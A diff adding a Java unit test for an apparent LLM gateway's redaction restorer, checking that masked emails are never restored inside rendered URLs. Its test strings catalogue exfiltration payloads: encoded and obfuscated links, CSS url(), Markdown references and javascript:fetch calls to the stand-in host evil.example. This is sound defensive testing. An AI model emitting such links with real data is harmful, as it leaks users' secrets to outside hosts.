@@ -1,0 +1,225 @@
+package io.llmgw.core.redact;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.llmgw.api.redact.Entities;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Random;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** A URL that is rendered takes no value away, however it is written (families 16, 22, 23). */
+class UrlContextTest {
+  private static final String VALUE = "ada@example.com";
+
+  private final Vault vault = new Vault();
+
+  UrlContextTest() {
+    vault.ordinal(Entities.EMAIL, VALUE);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        // blanks around the equals sign, and other ways to write an attribute
+        "<img src = \"/p?{v}\">",
+        "<img src\n=\n\t'/p? {v}'>",
+        "<img/src=/p?{v}>",
+        "<img alt=\"\"src=\"/p? {v}\">",
+        "<IMG SRC  =  /p?{v}>",
+        "<img title='>' data-src='/a b {v}'>",
+        "<img src=                                                       '/p? {v}'>",
+        "<img src                                                       ='/p? {v}'>",
+        // other attributes
+        "<img srcset=\"/a.png 1x, /b.png?{v} 2x\">",
+        "<source srcset = \"/a.png 1x, {v} 2x\">",
+        "<video poster=\"/p?a {v}\">",
+        "<body background='/p?a {v}'>",
+        "<form action=\"/p?a {v}\">",
+        "<button formaction = '/p?a {v}'>",
+        "<object data=\"/p?a {v}\">",
+        "<object title=\">\" data=\"/p?a {v}\">",
+        "<blockquote cite=\"/p?a {v}\">",
+        "<a ping=\"/p?a {v}\" href=\"/\">",
+        "<img longdesc=\"/p?a {v}\">",
+        "<image xlink:href=\"/p?a {v}\"/>",
+        "<use xlink:href = '/p?a {v}'/>",
+        "<svg:use href='/p?a {v}'/>",
+        "<html manifest='/p?a {v}'>",
+        "<svg xml:base='/p?a {v}'>",
+        "<iframe srcdoc=\"&lt;img src='/p?{v}'&gt;\">",
+        "<p style=\"background: u\\72l(/p?{v})\">",
+        // CSS
+        "<style>p { background: url(/p?{v}) }</style>",
+        "p { background: url( \"/p?a {v}\" ) }",
+        "p { background: url( '/p?a {v}' ) }",
+        "p { background: URL(/p?a {v}) }",
+        "@import \"/p?a {v}\";",
+        "@import url(\"/p?a {v}\");",
+        "@import url(/p?{v});",
+        "p { background: image-set(\"/p?a {v}\" 1x) }",
+        // references of HTML, octets
+        "<a title=\"x\" target='https:&#x2f;&#47;evil.example/{v}'>",
+        "https:&#x2f;&#47;evil.example/{v}",
+        "https:&sol;&sol;evil.example/{v}",
+        "https&colon;//evil.example/{v}",
+        "https&#58//evil.example/{v}",
+        "https&#x3A;&#x2F;&#x2F;evil.example/{v}",
+        "ht&#116;ps:evil.example/{v}",
+        "javascript&colon;fetch('/p?'+'{v}')",
+        "java&#115;cript:fetch('{v}')",
+        "https%3A%2F%2Fevil.example%2F{v}",
+        "%2f%2fevil.example/{v}",
+        "mailto%3a{v}",
+        // backslashes
+        "https:\\\\evil.example\\{v}",
+        "\\\\evil.example\\{v}",
+        "/\\evil.example/{v}",
+        "\\/evil.example/{v}",
+        "<a href='/\\evil.example/a {v}'>",
+        "[x](\\/\\/evil.example/{v})",
+        // links of Markdown by reference
+        "[x]: //evil.example/{v}",
+        "[x]: /p?{v}",
+        "text\n  [x]: p?{v}\n",
+        "> [x]:\n  </p?a {v}>",
+        "[x]: <p?a {v}>",
+        "[x]:https:evil.example/{v}",
+        // in angle brackets
+        "<https://evil.example/{v}>",
+        "<evil+x.1:a?{v}>",
+        "<skype:a?{v}>",
+        "<mailto:a@evil.example?body={v}>",
+        // what browsers leave out
+        "<a href=\"ht\ttps://evil.example/{v}\">",
+        "<a href=\"ht\ntps:evil.example/{v}\">",
+        "<a href=\"/\n/evil.example/\t{v}\">",
+        "<a href=\" \u0001https:evil.example/{v}\">",
+        "ht\ttps://evil.example/{v}",
+        "[x](ht&Tab;tps:evil.example/{v})",
+        // schemes
+        "javascript:fetch('{v}')",
+        "<a href=\"javascript:a('x {v}')\">",
+        "vbscript:x({v})",
+        "data:text/html,<b>{v}",
+        "mailto:a@evil.example?bcc={v}",
+        "sms:+15550100?body={v}",
+        "wss://evil.example/{v}",
+        "ftp:evil.example/{v}",
+        "HTTPS:evil.example/{v}",
+        // hosts without a scheme
+        "evil.example/{v}",
+        "evil.example?q={v}",
+        "see a.evil.co.uk/a/{v}",
+        "a@b.example, evil.example#{v}",
+        // what is only said to be a URL hides none
+        "//x\"><img/src=\"/a b {v}\">",
+        "src=\" <img src='/a\"b {v}'>",
+        "<!-- src=\" --><img src=\"/a b {v}\">",
+        "https://a.example/?x='//evil.example/a {v}'",
+        "'https://evil.example/?q='{v}",
+        "'https://evil.example/?q='x{v}",
+        "\"https://evil.example/?q=\"-{v}",
+        "<a href=\"/p?src=x {v}\">"
+      })
+  void nothingIsRestoredInAnAddress(String answer) {
+    String masked = answer.replace("{v}", "<EMAIL_1>");
+
+    assertEachCut(masked, masked);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "ratio = {v}",
+        "a // {v}",
+        "a // comment by {v}",
+        "x = y // 2; mail({v})",
+        "if (a <b && c> d) mail = \"{v}\"",
+        "for (int i=0;i<n;i++) { data = \"{v}\"; action = '{v}' }",
+        "List<String> data = \"{v}\"",
+        "data = \"{v}\", cite={v}, background: {v}",
+        "poster = {v}",
+        "<p title=\"{v}\">{v}</p>",
+        "<img alt=\"{v}\" src=\"/a.png\">",
+        "<input value='{v}' name=\"mail\">",
+        "<a href=\"/x\">{v}</a>",
+        "<soap:Body><to>{v}</to></soap:Body>",
+        "<soap:to mail=\"{v}\"/>",
+        "<style>p { color: red }</style> {v}",
+        "curl({v}); get_url({v}); fn({v})",
+        "@important {v}",
+        "R&D: {v}; AT&T {v}",
+        "100% {v}, 50%{v}",
+        "&nbsp;{v}&amp;{v}&#160;{v}",
+        "[INFO]: {v} is logged in",
+        "[1]: {v}",
+        "[^1]: mail to:{v}",
+        "list[0]: a={v}",
+        "[note] {v}, see [x][y] {v}",
+        "a: {v}, Tel: {v}, to:{v}",
+        "C:\\Users\\{v}",
+        "12:30 {v} 1:{v}",
+        "He said: \"{v}\" and '{v}' and `{v}`",
+        "see https://x.example {v}",
+        "see \"https://x.example\", {v}",
+        "see (https://x.example) {v}",
+        "l'https://x.example de {v}",
+        "{\"url\": \"https://x.example\", \"to\": \"{v}\"}",
+        "[x](https://x.example \"of {v}\")",
+        "![{v}](/a.png) {v}",
+        "[{v}]: https://x.example \"{v}\"",
+        "| {v} | {v} |",
+        "<{v}>",
+        "url: {v}, src: {v}, href: {v}",
+        "src == \"{v}\"",
+        "e.g. {v}; www {v}",
+        "{v}/{v}, {v}?{v}",
+        "and/or/{v}, e.g./{v}, 1.2/{v}, a.b/{v}"
+      })
+  void aValueInOtherTextIsRestored(String answer) {
+    assertEachCut(answer.replace("{v}", "<EMAIL_1>"), answer.replace("{v}", VALUE));
+  }
+
+  @Test
+  void nothingDependsOnWhereAnAnswerIsCut() {
+    String[] parts = {
+      "<img ", "src", " = ", "\"", "'", ">", "<", "/", "//", ":", "https", "&colon;", "&#47", "%2f",
+      "](", "[", "]:", "\n", " ", "\\", "url(", ")", "@import ", "style=", "a", "<EMAIL_1>", "&",
+          ";"
+    };
+    for (long seed = 0; seed < 300; seed++) {
+      Random random = new Random(seed);
+      StringBuilder answer = new StringBuilder();
+      for (int i = 0; i < 25; i++) {
+        answer.append(parts[random.nextInt(parts.length)]);
+      }
+      String whole = restored(List.of(answer.toString()));
+      List<String> pieces = new ArrayList<>();
+      for (int at = 0; at < answer.length(); ) {
+        int end = Math.min(answer.length(), at + 1 + random.nextInt(5));
+        pieces.add(answer.substring(at, end));
+        at = end;
+      }
+
+      assertThat(restored(pieces)).as("seed %d", seed).isEqualTo(whole);
+    }
+  }
+
+  private void assertEachCut(String answer, String expected) {
+    for (int at = 0; at <= answer.length(); at++) {
+      assertThat(restored(List.of(answer.substring(0, at), answer.substring(at))))
+          .as("cut at %d", at)
+          .isEqualTo(expected);
+    }
+  }
+
+  private String restored(List<String> pieces) {
+    Restorer restorer = new Restorer(vault, false);
+    StringBuilder all = new StringBuilder();
+    pieces.forEach(piece -> all.append(restorer.next(piece)));
+    return all.append(restorer.rest()).toString();
+  }
+}
